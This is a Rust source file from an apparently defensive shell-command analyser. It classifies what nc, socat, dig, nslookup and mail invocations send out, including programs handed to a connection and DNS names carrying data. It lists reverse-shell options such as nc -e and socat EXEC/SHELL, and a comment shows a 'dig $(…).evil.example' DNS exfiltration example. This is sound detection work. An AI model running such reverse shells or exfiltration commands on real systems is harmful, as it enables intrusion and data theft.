//! Raw connections and mail: `nc`, `socat`, `dig` with data in the name, `mail`.
//!
//! Owns what leaves or enters through them. A program that is given to a connection is a channel:
//! whoever is at the other end types into it.

use crate::Arg;
use crate::command_context::CommandContext;
use crate::family::{Family, family};
use crate::options::{Options, Spec, flag, value};
use crate::stdout;
use model::{Action, Certainty, Flags, ResourceKind, Verb};

/// The family.
pub const SOCKETS: Family = family! {
    "dig" => lookup; prints stdout::remote,
    "drill" => lookup,
    "host" => lookup; prints stdout::remote,
    "mail" => mail,
    "mailx" => mail,
    "mutt" => mail,
    "nc" => netcat; prints stdout::remote,
    "nc.openbsd" => netcat,
    "nc.traditional" => netcat,
    "ncat" => netcat; prints stdout::remote,
    "netcat" => netcat; prints stdout::remote,
    "nslookup" => lookup; prints stdout::remote,
    "sendmail" => mail,
    "socat" => socat; prints stdout::remote,
};

const NETCAT: Spec = Spec::full(&[
    value("program e exec"),
    value("script c sh-exec lua-exec"),
    value("p source-port"),
    value("s source"),
    value("w wait"),
    value("i idle-timeout interval"),
    value("q"),
    value("X proxy-type"),
    value("x proxy"),
    value("o output"),
    value("T"),
    value("I"),
    value("O"),
    flag("listen l"),
    flag("scan z"),
    flag("help version h V"),
    flag("u k v n 4 6 d C r t U N D S udp keep-open verbose ssl send-only recv-only"),
]);

/// `nc HOST PORT`
fn netcat(context: &mut CommandContext<'_, '_>) {
    let options = Options::read(&context.invocation.args, &NETCAT);
    if options.has_any(&["scan", "help"]) {
        return;
    }
    let words = options.operands.iter().map(|arg| arg.text.as_str());
    let address = words.collect::<Vec<_>>().join(":");
    connect(context, &address);
    for name in ["program", "script"] {
        for program in options.values(name) {
            give(context, &address, program);
        }
    }
}

fn connect(context: &mut CommandContext<'_, '_>, address: &str) {
    let url = format!("tcp://{address}");
    context.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
}

/// A program whose input and output go over a connection.
fn give(context: &mut CommandContext<'_, '_>, address: &str, program: &Arg) {
    let invocation = context.invocation;
    context
        .world
        .script(invocation, &invocation.program, program);
    let url = format!("tcp://{address}");
    context.act_on(Verb::OpenChannel, (ResourceKind::Url, &url), Flags::NONE);
}

/// Kinds of addresses of `socat` that start a program.
const SOCAT_PROGRAMS: &[&str] = &["EXEC", "SHELL", "SYSTEM"];

/// Kinds of addresses of `socat` that are files.
const SOCAT_FILES: &[&str] = &["CREATE", "FILE", "GOPEN", "OPEN"];

/// Beginnings of kinds of addresses of `socat` that lead to other machines.
const SOCAT_REMOTE: &[&str] = &[
    "OPENSSL", "PROXY", "SCTP", "SOCKS", "SSL", "TCP", "UDP", "VSOCK",
];

/// `socat ADDRESS ADDRESS`
fn socat(context: &mut CommandContext<'_, '_>) {
    let args = &context.invocation.args;
    let addresses = args.iter().filter(|arg| !arg.text.starts_with('-'));
    let parts: Vec<Address> = addresses.filter_map(address).collect();
    let is_remote = |part: &&Address| SOCAT_REMOTE.iter().any(|it| part.kind.starts_with(it));
    let remote = parts.iter().find(is_remote);
    let remote = remote.map(|part| part.rest.text.clone());
    for Address { kind, rest, is_cut } in &parts {
        match (SOCAT_PROGRAMS.contains(&kind.as_str()), &remote) {
            (true, Some(remote)) => give(context, remote, rest),
            (true, None) => context.world.script(context.invocation, "socat", rest),
            _ if SOCAT_FILES.contains(&kind.as_str()) => {
                let target = context.target(rest);
                match kind == "CREATE" || *is_cut {
                    true => context.replace(&target, Flags::NONE, None),
                    false => context.read(rest),
                }
            }
            _ => {}
        }
    }
    if let Some(remote) = remote {
        connect(context, &remote);
    }
}

/// An address of `socat`: `TCP:host:99`, `EXEC:'program words',pty`, `OPEN:file,trunc`.
struct Address {
    /// In capitals.
    kind: String,
    rest: Arg,
    /// Whether an option empties what it names.
    is_cut: bool,
}

fn address(arg: &Arg) -> Option<Address> {
    let (kind, rest) = arg.text.split_once(':')?;
    let (rest, options) = rest.split_once(',').unwrap_or((rest, ""));
    let is_cut = options.split(',').any(|option| option.starts_with("trunc"));
    let rest = Arg {
        text: rest.trim_matches(['"', '\'']).to_owned(),
        ..arg.clone()
    };
    Some(Address {
        kind: kind.to_uppercase(),
        rest,
        is_cut,
    })
}

/// `dig $(…).evil.example`: a name that holds what is not known here, or what this call has read
/// in a file, is a way out for data.
fn lookup(context: &mut CommandContext<'_, '_>) {
    let is_read = |action: &Action| (action.verb, action.kind) == (Verb::Read, ResourceKind::File);
    let reads = context.world.analysis.actions.iter().any(is_read);
    let is_made = |arg: &&Arg| {
        arg.text.contains(Arg::HOLE) || reads && arg.sure != Certainty::Literal && !arg.glob
    };
    let Some(name) = context.invocation.args.iter().find(is_made) else {
        return;
    };
    let name = match name.text.split_once('.') {
        Some((_, domain)) if !name.text.contains(Arg::HOLE) => format!("{}.{domain}", Arg::HOLE),
        _ => name.text.clone(),
    };
    let url = format!("dns://{name}");
    context.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
}

/// `mail ADDRESS`
fn mail(context: &mut CommandContext<'_, '_>) {
    let args = context.invocation.args.clone();
    let attached = args.windows(2).filter(|pair| {
        let option = pair.first().map_or("", |arg| arg.text.as_str());
        matches!(option, "-A" | "-a" | "--attach")
    });
    for file in attached.filter_map(<[Arg]>::last) {
        context.read(file);
    }
    let addresses = args.iter().filter(|arg| arg.text.contains('@'));
    for to in addresses.cloned().collect::<Vec<_>>() {
        let url = format!("mailto:{}", to.text);
        context.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
    }
}
